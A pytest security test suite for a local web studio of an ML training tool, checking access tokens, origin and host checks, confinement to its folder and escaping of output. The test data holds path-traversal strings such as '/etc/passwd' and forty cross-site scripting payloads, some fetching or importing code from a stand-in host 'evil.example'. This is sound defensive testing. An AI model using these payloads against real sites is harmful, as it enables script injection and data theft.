"""The studio as a browser, a hostile page and a hostile row meet it: who is let in, what is reached, what is shown."""

from __future__ import annotations

import asyncio
import http.client
import json
import os
import re
import signal
import subprocess
import sys
import time
import urllib.parse
from pathlib import Path
from typing import Any

import helpers
import pytest

from aifactory_train.cli import main
from aifactory_train.config.loading import load_recipe
from aifactory_train.core.errors import UserError
from aifactory_train.run.folder import RunFolder
from aifactory_train.studio import calls, pages_data, recipe_form
from aifactory_train.studio.calls import Call, Outcome
from aifactory_train.studio.desk import Desk
from aifactory_train.studio.live import Follower, Thinned

from .conftest import Browser, innocent

FORM = "application/x-www-form-urlencoded"
PAGES = ("/data", "/recipe", "/where", "/plan", "/run", "/results")


# ---- who is let in


def test_only_the_printed_address_opens_it(studio: Browser) -> None:
    for path in ("/", "/data", "/static/studio.js", "/run/events?run=x", "/?token=", "/?token=guessed"):
        assert studio.ask("GET", path).status == 403, path
        assert studio.ask("GET", path, Cookie=f"aifactory-studio-{studio.port}=guessed").status == 403, path
    assert studio.ask("GET", f"/data?token={studio.token}").status == 403  # the token opens one address alone
    assert studio.ask("POST", f"/?token={studio.token}", Origin=studio.own).status == 403
    answer = studio.ask("GET", f"/?token={studio.token}")
    assert answer.status == 303 and answer.headers["Location"] == "/"
    cookie = answer.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "samesite=strict" in cookie.lower() and studio.token not in cookie
    assert len(studio.token) >= 32


def test_the_address_works_where_another_page_leads_to_it(studio: Browser) -> None:
    """A redirection would still be the other page's request, and not be given the strict cookie."""
    answer = studio.ask("GET", f"/?token={studio.token}", Sec_Fetch_Site="cross-site")
    assert answer.status == 200 and "Set-Cookie" in answer.headers
    assert 'http-equiv="refresh" content="0; url=/"' in answer.read().decode()


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:{port}", "127.0.0.1", "127.0.0.1:1", "[::1]:{port}", ""]
)
def test_another_host_is_refused(studio: Browser, host: str) -> None:
    name = host.format(port=studio.port)
    assert studio.ask("GET", "/data", Cookie=studio.cookie, Host=name).status in (400, 403)
    assert studio.ask("GET", f"/?token={studio.token}", Host=name).status in (400, 403)


@pytest.mark.parametrize(
    "origin", ["http://evil.example", "null", "", "http://127.0.0.1:1", "https://127.0.0.1:{port}"]
)
def test_a_foreign_origin_changes_nothing(studio: Browser, tmp_path: Path, origin: str) -> None:
    given = {"Origin": origin.format(port=studio.port)} if origin else {}
    for path in ("/data/upload?name=a.csv", "/data/recipe", "/run/start", "/recipe/save", "/results/export"):
        answer = studio.ask("POST", path, "a=b", Cookie=studio.cookie, Content_Type=FORM, **given)
        assert answer.status == 403, path
    if origin:
        assert studio.ask("GET", "/data", Cookie=studio.cookie, **given).status == 403
    assert list(tmp_path.iterdir()) == []


def test_every_answer_carries_the_policy(studio: Browser) -> None:
    for path in (*PAGES, "/nothing", "/static/studio.js", "/recipe?recipe=nothing.yaml"):
        answer = studio.ask("GET", path, Cookie=studio.cookie)
        policy = answer.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy and "unsafe" not in policy and "http" not in policy, path
        assert answer.headers["X-Content-Type-Options"] == "nosniff" and answer.headers["Cache-Control"] == "no-store"
    assert "Content-Security-Policy" in studio.ask("GET", "/data").headers  # a refusal, too


def test_it_listens_on_this_machine_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for port, words in (("99999", "ports are 0 to 65535"), ("-1", "ports are 0 to 65535")):
        assert main(["studio", "--folder", str(tmp_path), "--port", port, "--no-browser"]) == 2
        assert words in capsys.readouterr().err
    assert main(["studio", "--folder", str(tmp_path / "nowhere")]) == 2
    assert "no such folder" in capsys.readouterr().err


@pytest.mark.parametrize("missing", ["uvicorn", "starlette"])
def test_without_the_extra_it_says_what_to_install(tmp_path: Path, missing: str) -> None:
    code = f"import sys; sys.modules['{missing}'] = None\nfrom aifactory_train.cli import main\n"
    command = [sys.executable, "-c", code + "sys.exit(main(['studio', '--no-browser']))"]
    done = subprocess.run(command, cwd=tmp_path, env=helpers.environment(), capture_output=True, text=True, timeout=60)
    helpers.refused(done, f"needs the package '{missing}'", "pip install 'aifactory-train[studio]'")


# ---- what is reached


OUT = [
    "../secret.yaml",
    "/etc/passwd",
    "a/../../secret.yaml",
    "link.yaml",
    "linked/secret.yaml",
    "-o",
    "a\0b",
    "~/x.yaml",
]


@pytest.fixture
def with_secret(tmp_path: Path) -> Path:
    """A folder to work in, with a secret beside it and links that lead there."""
    secret = tmp_path / "secret.yaml"
    secret.write_text("model: {base: SECRET}\ndata: {train: SECRET}\n")
    (tmp_path / "secret.csv").write_text("prompt,completion\nSECRET,SECRET\n")
    (tmp_path / "desk").mkdir()
    (tmp_path / "desk" / "link.yaml").symlink_to(secret)
    (tmp_path / "desk" / "linked").symlink_to(tmp_path)
    return tmp_path / "desk"


def test_nothing_outside_the_folder_is_reached(with_secret: Path) -> None:
    from .conftest import studio_for

    before = sorted(p.name for p in with_secret.parent.iterdir())
    with studio_for(with_secret) as studio:
        for name in OUT:
            for page in ("/recipe", "/data", "/plan", "/where"):
                status, text = studio.get(page, recipe=name, site="lumi-g")
                assert status == 400 and "SECRET" not in text, (page, name)
            for page in ("/run", "/results", "/report", "/compare", "/run/events"):
                status, text = studio.get(page, run=name)
                assert status == 400 and "SECRET" not in text, (page, name)
            status, text = studio.post("/data/recipe", file=name, id="my/x")
            assert status == 400 and "SECRET" not in text, name
            status, text = studio.post("/recipe/save", recipe=name, yaml="model: {}\n")
            assert status == 400, name
            assert studio.post("/run/start", recipe=name, name="x")[0] == 400, name
            assert studio.post("/run/start", recipe="health/phenotype-terms", name=f"../{name}")[0] == 400, name
        for path in ("/static/../app.py", "/static/%2e%2e/app.py", "/static/..%2fapp.py", "/../secret.yaml"):
            assert studio.get(path)[0] == 404, path
        assert "link.yaml" not in studio.get("/recipe")[1]  # not offered either
    assert sorted(p.name for p in with_secret.parent.iterdir()) == before
    assert "SECRET" in (with_secret.parent / "secret.yaml").read_text()


def test_what_is_dropped_lands_below_the_folder_and_overwrites_nothing(studio: Browser, tmp_path: Path) -> None:
    def drop(name: str, content: bytes) -> Any:
        path = "/data/upload?name=" + urllib.parse.quote(urllib.parse.quote(name))
        answer = studio.ask("POST", path, content, Cookie=studio.cookie, Origin=studio.own)
        return json.loads(answer.read())

    assert drop("tickets.csv", b"a,b\n1,2\n") == {"file": "aifactory/tickets.csv"}
    second = drop("tickets.csv", b"other\n")["file"]
    assert re.fullmatch(r"aifactory/tickets-[0-9a-f]{12}\.csv", second)
    assert (tmp_path / "aifactory" / "tickets.csv").read_bytes() == b"a,b\n1,2\n"
    assert drop("../../up.csv", b"x")["file"] == "aifactory/up.csv"
    assert drop("C:\\Users\\me\\<b>.csv", b"x")["file"] == "aifactory/_b_.csv"
    assert drop("empty.csv", b"")["error"] == "is empty" and "no ending" in drop("..", b"x")["error"]
    lying = sorted(p.name for p in (tmp_path / "aifactory").iterdir())
    assert len(lying) == 4 and not any(name.startswith(".") for name in lying)


def test_what_a_person_writes_is_never_an_option() -> None:
    assert Call.of("recipes", "new", "a", data="--out=x", map=["--json"]).words[-2:] == (
        "--data=--out=x",
        "--map=--json",
    )
    for word in ("--out", "-x", "a\0"):
        with pytest.raises(UserError):
            Call.of("recipes", "new", word)
    assert Call.of("runs", "a b", html=True, json=False, name=None).shown == "aifactory runs 'a b' --html"


# ---- what is shown


def _hostile() -> list[str]:
    """Forty texts that are scripts in a page that forgets to escape them, in a tag, an attribute, a script or a URL."""
    run = ["alert(1)", "fetch('//evil.example')", "document.title='x'", "import('//evil.example/x.js')"]
    shells = [
        "<script>{}</script>",
        "</textarea><script>{}</script>",
        '"><svg onload={}>',
        "'><img src=x onerror={}>",
        "</pre></code><iframe srcdoc='<script>{}</script>'>",
        "</title><style>@import '//evil.example'</style><b onclick={}>",
        "javascript:{}",
        "{{{{ {} }}}}{{% raw %}}",
        "</option></select><form action=//evil.example><input autofocus onfocus={}>",
        "<!--><base href=//evil.example><object data=//evil.example onerror={}>\u2028",
    ]
    return [shell.format(text) for shell in shells for text in run]


HOSTILE = _hostile()


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A folder whose every name, row, answer, message and value is hostile."""
    assert len(set(HOSTILE)) == 40
    recipe = helpers.write_recipe(tmp_path, Path("model"), settings={"about.title": HOSTILE[0], "id": "test/tiny"})
    recipe.rename(tmp_path / "a <img src=x onerror=alert(1)>.yaml")
    (tmp_path / "<script>alert(1)<!--.csv").write_text("a\n1\n")
    name = "run'\"><img src=x onerror=alert(1)>"
    run = RunFolder(tmp_path / "runs" / name)
    run.path.mkdir(parents=True)
    run.save_config(load_recipe(str(tmp_path / "a <img src=x onerror=alert(1)>.yaml")))
    samples = [{"prompt": text, "expected": text, "answer": text} for text in HOSTILE]
    figures = {"bits_per_byte": 2.0, "rows": 4, "samples": samples}
    verdict = {"word": HOSTILE[2], "sentence": HOSTILE[3], "next": HOSTILE[4], "reasons": HOSTILE}
    run.eval_file.write_text(json.dumps({"before": figures, "after": figures, "verdict": verdict}))
    record = {"run": {"title": HOSTILE[5], "recipe": HOSTILE[6], "id": HOSTILE[7]}, "hparams": {"steps": HOSTILE[8]}}
    (run.path / "record.json").write_text(json.dumps(record))
    rows = [{"kind": "train", "step": i, "loss": 1.0, "tokens_per_s": HOSTILE[i], "id": HOSTILE[i]} for i in range(40)]
    helpers.write_jsonl(run.metrics_file, rows)
    run.state_file.write_text(json.dumps({"state": HOSTILE[9], "step": 3}))
    (tmp_path / "aifactory").mkdir()
    (tmp_path / "aifactory" / f"{name}.log").write_text("\n".join(HOSTILE))
    return tmp_path


def test_hostile_texts_never_become_script(hostile: Path, studio: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    (name,) = [p.name for p in (hostile / "runs").iterdir()]
    (recipe,) = [p.name for p in hostile.glob("*.yaml")]
    seen = ""
    for page in PAGES:
        status, text = studio.get(page, **({"run": name} if page in ("/run", "/results") else {}))
        assert status == 200, (page, text)
        seen += innocent(text).text
    assert all(text in seen for text in HOSTILE if "\u2028" not in text)  # shown as they are, as text
    status, text = studio.get("/recipe", recipe=recipe)
    assert status == 200 and HOSTILE[0] in innocent(text).text
    for text in HOSTILE:  # what is asked for comes back in messages and fields
        for page in PAGES[:3]:
            innocent(studio.get(page, recipe=text, run=text, file=text)[1])
    for path, fields in {
        "/recipe/save": {"recipe": recipe, "yaml": "\n".join(HOSTILE), "seen": HOSTILE[0]},
        "/run/start": {"recipe": HOSTILE[1], "name": HOSTILE[2], "set": HOSTILE[3]},
        "/run/stop": {"run": HOSTILE[4]},
        "/results/export": {"run": name, "kind": HOSTILE[5]},
    }.items():
        status, text = studio.post(path, **fields)
        assert status == 400, path
        innocent(text)

    async def hostile_answer(call: Call, folder: Path) -> Outcome:
        found = {"place": HOSTILE[0], "tokens": 1, "supervised": HOSTILE[1], "document": []}
        found["document"] = [{"text": text, "supervised": i % 3 == 0} for i, text in enumerate(HOSTILE)]
        sources = [{"name": HOSTILE[2], "counts": {HOSTILE[3]: 1}}]
        sets = {HOSTILE[4]: {"rows": HOSTILE[5], "documents": 1, "tokens": 1, "supervised": 1}}
        report = {"sources": sources, "sets": sets, "warnings": HOSTILE, "duplicates": {"rows": 0}}
        return Outcome(call, 0, {**report, "inspected": [found]}, HOSTILE[6])

    monkeypatch.setattr(calls, "run", hostile_answer)
    status, text = studio.post("/data/inspect", recipe=recipe)
    assert status == 200 and HOSTILE[-2] in innocent(text).text

    async def hostile_refusal(call: Call, folder: Path) -> Outcome:
        return Outcome(call, 2, None, "\n".join(HOSTILE))

    monkeypatch.setattr(calls, "run", hostile_refusal)
    status, text = studio.post("/data/recipe", file="train.jsonl", id=HOSTILE[7], licence=HOSTILE[8], map=HOSTILE[9])
    assert status == 400 and HOSTILE[0] in innocent(text).text


def test_hostile_news_are_texts(hostile: Path, studio: Browser) -> None:
    """What a script puts into the page while a run is followed was escaped by the server, or is put in as text."""
    (name,) = [p.name for p in (hostile / "runs").iterdir()]
    answer = studio.ask("GET", "/run/events?" + urllib.parse.urlencode({"run": name}), Cookie=studio.cookie)
    kind, news = _event(answer)
    assert kind == "news"
    for html in (news["status"], *news["charts"].values()):
        innocent(html.replace('<input type="range"', '<input type="hidden"'))
    assert HOSTILE[0] in news["log"]


def test_the_pages_of_other_rooms_run_their_own_script_alone(hostile: Path, studio: Browser) -> None:
    """The report and the comparison carry style and script inside; the header allows these two by digest."""
    (name,) = [p.name for p in (hostile / "runs").iterdir()]
    answer = studio.ask("GET", "/compare?" + urllib.parse.urlencode({"run": name}), Cookie=studio.cookie)
    text, policy = answer.read().decode(), answer.headers["Content-Security-Policy"]
    assert answer.status == 200 and "unsafe" not in policy and policy.count("sha256-") == 2
    import base64
    import hashlib

    for tag in ("script", "style"):
        (inside,) = re.findall(rf"<{tag}>(.*?)</{tag}>", text, re.DOTALL)
        assert base64.b64encode(hashlib.sha256(inside.encode()).digest()).decode() in policy, tag
    assert "<img" not in text and "onerror=alert" not in re.sub(r"&lt;.*?&gt;", "", text)


# ---- data and recipe


def test_from_rows_to_a_recipe_with_the_command_that_does_the_same(studio: Browser, tmp_path: Path) -> None:
    rows = "".join(f"Was kostet {i}?;{i} Euro an a{i}@firma.de\n" for i in range(30))
    (tmp_path / "tickets.csv").write_text("Frage;Antwort\n" + rows)
    assert "tickets.csv" in studio.get("/data")[1]
    assert 'value="my/tickets"' in studio.get("/data", file="tickets.csv")[1]
    status, text = studio.post("/data/recipe", file="tickets.csv", id="acme/tickets", task="qa")
    shown = innocent(text).text
    assert status == 200, shown
    assert "aifactory recipes new acme/tickets --data=tickets.csv --task=qa" in shown
    assert "Whose rows are these?" in shown and "Personal data was found (email)" in shown and "'Frage'" in shown
    assert (tmp_path / "acme" / "tickets.yaml").is_file()
    assert "Personal data was found" in studio.get("/data", recipe="acme/tickets.yaml")[1]
    status, text = studio.post("/data/recipe", file="tickets.csv", id="acme/tickets")
    assert status == 400 and "exists already" in innocent(text).text
    assert 'value="acme/tickets"' in text  # what was written is still there


def test_the_form_changes_the_yaml_and_keeps_its_comments(studio: Browser, tmp_path: Path) -> None:
    helpers.write_recipe(tmp_path, tmp_path, rows=4, eval_rows=2)
    path = tmp_path / "recipe.yaml"
    path.write_text("# mine\n" + path.read_text().replace("  seed: 3", "  seed: 3  # a good one"))
    seen = recipe_form.digest(path.read_text())
    assert studio.post("/recipe/save", recipe="recipe.yaml", seen=seen, **{"train.epochs": "3"})[0] == 303
    text = path.read_text()
    assert "# mine" in text and "# a good one" in text and load_recipe(str(path)).train.epochs == 3
    status, page = studio.post("/recipe/save", recipe="recipe.yaml", seen=seen, **{"train.epochs": "4"})
    assert status == 400 and "was changed meanwhile" in page and path.read_text() == text
    seen = recipe_form.digest(text)
    status, page = studio.post("/recipe/save", recipe="recipe.yaml", seen=seen, **{"train.epochs": "many"})
    assert status == 400 and "recipe.yaml" in page and "train.epochs" in page and path.read_text() == text
    status, page = studio.post("/recipe/save", recipe="recipe.yaml", seen=seen, yaml="model: [\n")
    assert status == 400 and "not saved" in page and path.read_text() == text
    assert sorted(p.name for p in tmp_path.iterdir()) == ["eval.jsonl", "recipe.yaml", "train.jsonl"]
    status, page = studio.post("/recipe/save", recipe="health/phenotype-terms", yaml=text)
    assert status == 400 and "stays as it is" in page


@pytest.mark.parametrize(
    ("text", "key", "value", "after"),
    [
        ("train:\n  epochs: 2  # few\n", "train.epochs", "5", "train:\n  epochs: 5  # few\n"),
        ("train:\n    seed: 1\n", "train.epochs", "5", "train:\n    epochs: 5\n    seed: 1\n"),
        ("id: a\n", "adapter.kind", "dora", "id: a\n\nadapter:\n  kind: dora\n"),
        ("train:\n  epochs: 2\n  seed: 1\n", "train.epochs", "", "train:\n  seed: 1\n"),
        ("model: {base: a, licence: b}\n", "model.base", "c: #d", 'model: {base: "c: #d", licence: b}\n'),
        ("about:\n  title: 'a'\n", "about.title", "3\ntrain: x", 'about:\n  title: "3\\ntrain: x"\n'),
        ("a: 1\n", "train.max_steps", "2\nb: 3", 'a: 1\n\ntrain:\n  max_steps: "2\\nb: 3"\n'),
    ],
)
def test_a_value_is_put_where_it_belongs(text: str, key: str, value: str, after: str) -> None:
    assert recipe_form.with_values(text, {key: value}) == after


@pytest.mark.parametrize("text", ["model: {licence: b}\n", "model: [1]\n", "model:\n  base: {a: 1}\n"])
def test_what_the_form_cannot_change_is_refused_by_name(text: str) -> None:
    with pytest.raises(UserError, match=r"model\.base"):
        recipe_form.with_values(text, {"model.base": "x"})


def test_every_field_is_a_key_of_the_schema() -> None:
    found = {field.key: field for field in recipe_form.fields("train:\n  epochs: 2\n")}
    assert list(found) == list(recipe_form.KEYS) and found["train.epochs"].value == "2"
    assert "lora" in found["adapter.kind"].choices and found["train.learning_rate"].number


def test_a_private_recipe_shows_no_text(studio: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    helpers.write_recipe(tmp_path, tmp_path, rows=4, eval_rows=2, settings={"privacy.profile": "sensitive"})
    asked: list[Call] = []

    async def kept(call: Call, folder: Path) -> Outcome:
        asked.append(call)
        return Outcome(call, 2, None, "no")

    monkeypatch.setattr(calls, "run", kept)
    studio.post("/data/inspect", recipe="recipe.yaml")
    assert [call.shown for call in asked] == ["aifactory prepare recipe.yaml --report"]


# ---- where and plan


def test_where_and_plan(studio: Browser, tmp_path: Path) -> None:
    recipe = "health/phenotype-terms"
    status, text = studio.get("/where", recipe=recipe, country="FI", sme="1", tokens="1e6")
    shown = innocent(text, elsewhere=True).text
    assert status == 200 and f"aifactory where {recipe} --country=FI --tokens=1e6 --sme" in shown
    assert "GPU-hours" in shown and "plan on lumi-g" in shown and text.count("data-member=") == 32
    status, text = studio.get("/plan", recipe=recipe, site="lumi-g", gpus_per_node="1", tokens="1e6")
    shown = innocent(text).text
    assert status == 200 and "fragmentation" in shown and "micro-batch" in shown and "GPU-hours" in shown
    assert f"aifactory launch {recipe} --site=lumi-g --nodes=1 --gpus-per-node=1 --set=" in shown
    status, text = studio.get("/plan", recipe=recipe, site="nowhere")
    assert status == 400 and "nowhere" in innocent(text).text


# ---- a run


def _event(answer: http.client.HTTPResponse) -> tuple[str, Any]:
    kind = ""
    while True:
        line = answer.readline().decode()
        assert line, "the stream ended"
        if line.startswith("event: "):
            kind = line[7:].strip()
        elif line.startswith("data: "):
            return kind, json.loads(line[6:])


def test_a_growing_file_is_followed(studio: Browser, tmp_path: Path) -> None:
    run = RunFolder(tmp_path / "runs" / "one")
    run.path.mkdir(parents=True)
    helpers.write_recipe(tmp_path, tmp_path, rows=4, eval_rows=2)
    run.save_config(load_recipe(str(tmp_path / "recipe.yaml")))
    run.set_state("running", step=0)
    (run.path / "record.json").write_text('{"hparams": {"steps": 9}}')
    answer = studio.ask("GET", "/run/events?run=one", Cookie=studio.cookie)
    assert answer.headers["Content-Type"].startswith("text/event-stream")
    _event(answer)
    for step in (1, 2):
        with open(run.metrics_file, "a") as file:
            file.write(json.dumps({"kind": "train", "step": step, "loss": 5.0 / step, "tokens_per_s": 7.0}) + '\n{"ki')
            file.flush()
            kind, news = _event(answer)
            file.truncate(file.tell() - 4)  # the half line is written again, whole
        assert kind == "news" and f"step {step} of 9" in news["status"] and set(news["charts"]) == {"loss", "speed"}
        assert f"{5.0 / step:.4g} at step {step}" in news["charts"]["loss"]
    run.set_state("finished", step=2)
    kinds = [_event(answer)[0] for _ in range(2)]
    assert kinds[-1] == "end" or _event(answer)[0] == "end"


def test_100_000_steps_stay_small_and_quick(studio: Browser, tmp_path: Path) -> None:
    run = RunFolder(tmp_path / "runs" / "long")
    run.path.mkdir(parents=True)

    def lines(first: int, last: int) -> str:
        return "".join(
            f'{{"kind":"train","step":{step},"loss":{1000.0 if step == 77_777 else 5.0 / step**0.1},"grad_norm":'
            f'{0.1 + step % 7 / 10},"learning_rate":{1e-3 * (1 - step / 2e5)},"tokens_per_s":{1e5 + step % 1000},'
            f'"memory_bytes":{2**30}}}\n'
            for step in range(first, last)
        )

    run.metrics_file.write_text(lines(1, 100_001))
    follower = Follower(run.metrics_file)
    while follower.read():
        pass
    assert follower.step == follower.rows == 100_000
    spent = []
    for more in range(5):
        with open(run.metrics_file, "a") as file:
            file.write(lines(100_001 + 50 * more, 100_051 + 50 * more))
        before = time.thread_time()
        follower.read()
        charts = follower.charts()
        spent.append(time.thread_time() - before)
    assert min(spent) < 0.1, spent
    assert "largest 1k" in charts["loss"]  # one spike among 100,000 steps is not averaged away
    status, page = studio.get("/run", run="long")
    assert status == 200 and len(page.encode()) < 2_000_000 and sum(map(len, charts.values())) < 1_000_000
    answer = studio.ask("GET", "/run/events?run=long", Cookie=studio.cookie)
    assert len(json.dumps(_event(answer)[1])) < 2_000_000


def test_thinning_keeps_ends_and_extremes() -> None:
    values = [float((i * 7919) % 1013) for i in range(5000)]
    thinned = Thinned()
    for i, value in enumerate(values):
        thinned.add(i, value)
    found = thinned.buckets()
    assert 200 <= len(found) <= 400 and found[-1][0] == 4999
    assert min(b[2] for b in found) == min(values) and max(b[3] for b in found) == max(values)
    mean = sum(b[1] for b in found) / len(found)
    assert abs(mean - sum(values) / len(values)) < 5


def test_a_metrics_file_that_is_begun_anew_is_read_anew(tmp_path: Path) -> None:
    path = helpers.write_jsonl(tmp_path / "metrics.jsonl", [{"step": i, "loss": 9.0} for i in range(1, 11)])
    follower = Follower(path)
    follower.read()
    assert follower.step == 10
    path.write_text("".join(f'{{"step": {i}, "loss": 1.0}}\n' for i in range(1, 13)))  # longer than before
    follower.read()
    assert follower.step == 12 and follower.rows == 12 and follower.train["loss"].buckets()[0][1] == 1.0
    path.unlink()
    assert follower.read() is False


def test_a_training_is_refused_where_the_page_can_say_why(studio: Browser, tmp_path: Path) -> None:
    (tmp_path / "runs" / "old").mkdir(parents=True)
    (tmp_path / "runs" / "old" / "run.yaml").write_text("id: x\n")
    status, text = studio.post("/run/start", recipe="health/phenotype-terms", name="old", set="train.epochs=1")
    assert status == 400 and "there is a run 'old' already" in innocent(text).text and "train.epochs=1" in text
    assert studio.post("/run/resume", run="nothing")[0] == 400
    assert not (tmp_path / "aifactory").exists()


#: Starts a long command as the studio does, says so, and waits to be killed.
_STARTER = """
import signal, sys, time
signal.signal(signal.SIGINT, signal.default_int_handler)  # a shell's background jobs ignore it
signal.signal(signal.SIGHUP, signal.SIG_DFL)
from pathlib import Path
from aifactory_train.studio import calls
folder = Path(sys.argv[1])
call = calls.Call.of("studio", port="0", no_browser=True)
print(calls.start(call, folder, folder / "aifactory" / "x.log").pid, flush=True)
time.sleep(60)
"""


@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGINT, signal.SIGHUP], ids=lambda s: s.name)
def test_what_the_studio_started_outlives_it(tmp_path: Path, how: signal.Signals) -> None:
    command = [sys.executable, "-c", _STARTER, str(tmp_path)]
    starter = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, start_new_session=True
    )
    assert starter.stdout is not None
    child = int(starter.stdout.readline())
    try:
        log = tmp_path / "aifactory" / "x.log"
        end = time.time() + 60
        while "token=" not in log.read_text() and time.time() < end:
            time.sleep(0.1)
        os.killpg(starter.pid, how)  # as a terminal does that is closed, or somebody who is impatient
        starter.wait(20)
        browser = Browser(re.findall(r"http://\S+", log.read_text())[0])
        assert browser.ask("GET", "/data").status == 403  # it still answers
        assert log.read_text().startswith("$ aifactory studio --port=0 --no-browser\n")
    finally:
        os.kill(child, signal.SIGKILL)


def test_a_command_that_is_waited_for_ends_with_its_page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    code = "import os, pathlib, time; pathlib.Path('pid').write_text(str(os.getpid())); time.sleep(60)"
    monkeypatch.setattr(calls, "_argv", lambda call: [sys.executable, "-c", code])

    async def impatient() -> None:
        waiting = asyncio.create_task(calls.run(Call.of("runs"), tmp_path))
        while not (tmp_path / "pid").is_file() or not (tmp_path / "pid").read_text():
            await asyncio.sleep(0.05)
        waiting.cancel()
        await waiting

    with pytest.raises(asyncio.CancelledError):
        asyncio.run(impatient())
    with pytest.raises(ProcessLookupError):
        os.kill(int((tmp_path / "pid").read_text()), 0)


def test_the_folder_is_looked_at_two_levels_deep(tmp_path: Path) -> None:
    for name in (
        "a.csv",
        "b/c.jsonl",
        "b/c/d.xlsx",
        "b/c/d/e.csv",
        "runs/r/f.csv",
        ".g.csv",
        "h.report.json",
        "-i.csv",
    ):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x")
    assert sorted(Desk(tmp_path).rows()) == ["a.csv", "b/c.jsonl", "b/c/d.xlsx"]


def test_an_id_is_proposed_for_any_name() -> None:
    found = {name: pages_data._id_for(name) for name in ("Büro Tickets.csv", "東京.csv", "a/b/_x.csv", "")}
    assert found == {"Büro Tickets.csv": "my/b-ro-tickets", "東京.csv": "my/rows", "a/b/_x.csv": "my/x", "": ""}
